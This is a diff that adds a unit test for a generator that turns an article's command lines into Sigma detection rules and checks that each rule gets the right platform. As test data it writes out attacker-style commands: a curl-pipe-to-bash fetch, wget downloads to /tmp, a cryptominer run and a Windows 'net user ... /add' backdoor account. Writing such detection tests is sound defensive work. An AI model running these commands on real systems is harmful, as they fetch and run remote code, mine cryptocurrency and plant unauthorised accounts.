@@ -229,6 +229,35 @@ describe('builtin SigmaAgent templates', () => {
     expect(cmd.title).toBe('Wget Download From Remote Host');
   });
 
+  it('runs the bare lines of an article with no platform where its marked lines agree they ran, but never a Windows-only program', () => {
+    const unnamed = (lines: string[]) =>
+      generateBuiltinRules({
+        ...input,
+        platform: 'unknown',
+        processPairs: [],
+        registryKeys: [],
+        services: [],
+        scheduledTasks: [],
+        network: [],
+        cmdlines: lines.map((value) => ({ ...item, value, executable: must(value.split(' ')[0]) })),
+      }).map((draft) => draft.rule as unknown as Rule);
+    const container = unnamed([
+      'wget -q https://downloads.example.org/kit/kit-linux.tar.gz',
+      'chmod +x /tmp/kit/updater',
+      'kitd --pool pool.example.net:3333 --user 4AbCdEf --donate-level 0',
+    ]);
+    const bare = container.find((rule) => JSON.stringify(rule.detection).includes('--donate-level'));
+    expect(must(bare).logsource.product).toBe('linux');
+
+    const mixed = unnamed([
+      'net user backupsvc Winter2026! /add',
+      'curl -s https://downloads.example.org/i.sh | bash',
+      'wget -q -O /tmp/.x https://downloads.example.org/x',
+    ]);
+    const net = mixed.find((rule) => JSON.stringify(rule.detection).includes('net.exe'));
+    expect(must(net).logsource.product).toBe('windows');
+  });
+
   it('resolves wrappers to the program that ran, keeps one selection per distinct command, and leaves out what cannot stand alone', () => {
     const wrapped = generateBuiltinRules({
       article,
